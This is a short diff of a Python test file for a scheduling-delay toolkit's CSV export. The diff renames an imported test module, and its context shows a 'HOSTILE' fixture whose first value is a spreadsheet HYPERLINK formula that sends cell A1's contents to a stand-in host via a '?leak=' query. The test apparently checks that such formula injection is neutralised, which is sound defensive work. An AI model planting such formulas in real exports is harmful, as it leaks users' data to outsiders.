@@ -9,7 +9,7 @@ module docstring): numbers stay numbers, and text that reads as a plain decimal 
 string; the case's own input files are not neutralised. Python's csv module reads the files
 back.
 
-The hostile case: the small case of tests/test_output_policy.py with names and titles that
+The hostile case: the small case of tests/test_report.py with names and titles that
 are formulas, a column the toolkit does not know (``note``), and a contract completion two
 work days before the planned one with floats counted to it, so that total float is
 negative: A and B (planned to finish Friday 2025-01-17) against Wednesday 2025-01-15 carry
@@ -32,7 +32,7 @@ from casewriter import write_case
 from delay.cli import cli
 from delay.output import copy_csv, csv_safe, csv_text, neutralise
 from reports.tables import canonical_csv
-from test_output_policy import ASBUILT, LINKS
+from test_report import ASBUILT, LINKS
 
 HOSTILE = {
     "A": '=HYPERLINK("http://example.invalid/?leak="&A1,"Details")',
